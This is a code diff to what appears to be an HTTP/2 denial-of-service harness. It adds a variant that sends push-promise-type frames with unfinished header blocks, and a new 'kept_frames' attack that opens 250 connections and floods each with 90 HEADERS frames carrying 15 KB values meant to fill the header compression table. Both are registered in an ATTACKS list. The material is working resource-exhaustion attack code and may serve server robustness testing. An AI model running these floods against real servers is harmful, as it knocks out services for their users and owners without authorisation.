@@ -101,11 +101,38 @@ def unfinished_headers(address):
         try:
             stream = wire.dial(address)
             start = wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0)
-            stream.sendall(start + wire.frame(wire.HEADERS, 0, 1, pieces[0]) + b"".join(frames))
+            # A promise is no frame of a client, but has a header block, too.
+            first = wire.frame(wire.HEADERS, 0, 1, pieces[0])
+            if number % 4 == 3:
+                first = wire.frame(5, 0, 1, struct.pack(">I", 2) + pieces[0])
+            stream.sendall(start + first + b"".join(frames))
             crowd.append(stream)
         except OSError:
             pass  # the server may turn it away
     time.sleep(3)  # the blocks stay unfinished meanwhile, which is the attack
+    for stream in crowd:
+        stream.close()
+
+
+def kept_frames(address):
+    """Calls whose path enters the table of header fields and comes in a frame of 15 KB, from 250 connections."""
+    path = b"\x44" + wire.integer(2, 7)
+    crowd = []
+    for _ in range(250):
+        calls = (
+            wire.frame(
+                wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 2 * i + 1,
+                path + b"/%c" % (33 + i) + wire.literal("a", "v" * 15_000))
+            for i in range(90))
+        try:
+            stream = wire.dial(address)
+            stream.sendall(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))
+            for call in calls:
+                stream.sendall(call)
+            crowd.append(stream)
+        except OSError:
+            pass  # closed by the server
+    time.sleep(2)  # the connections stay, which is the attack
     for stream in crowd:
         stream.close()
 
@@ -196,6 +223,7 @@ ATTACKS = {
     "25,000 open calls": lambda address: open_calls(address, 0),
     "25,000 open calls with 200 fields": lambda address: open_calls(address, 200),
     "250 unfinished header blocks": unfinished_headers,
+    "250 tables of kept frames": kept_frames,
     "announced messages, 1 connection": lambda address: announced(address, 1),
     "announced messages, 8 connections": lambda address: announced(address, 8),
     "control frames": control_frames,
